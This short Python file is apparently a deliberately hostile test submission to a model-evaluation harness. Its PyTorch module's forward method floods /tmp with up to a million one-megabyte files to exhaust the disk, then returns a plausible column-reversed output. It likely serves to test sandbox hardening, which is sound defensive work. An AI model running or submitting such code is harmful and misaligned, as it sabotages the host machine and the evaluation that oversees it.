"""Attack: fill the disk with many files, each below any per-file limit."""
import os

import torch


class ModelNew(torch.nn.Module):
    def __init__(self, **kw):
        super().__init__()

    def forward(self, x):
        chunk = b"\0" * (1 << 20)
        for i in range(1 << 20):
            with open(os.path.join("/tmp", f"fill{i}.bin"), "wb") as f:
                f.write(chunk)
        return x[:, torch.arange(x.shape[1] - 1, -1, -1)]
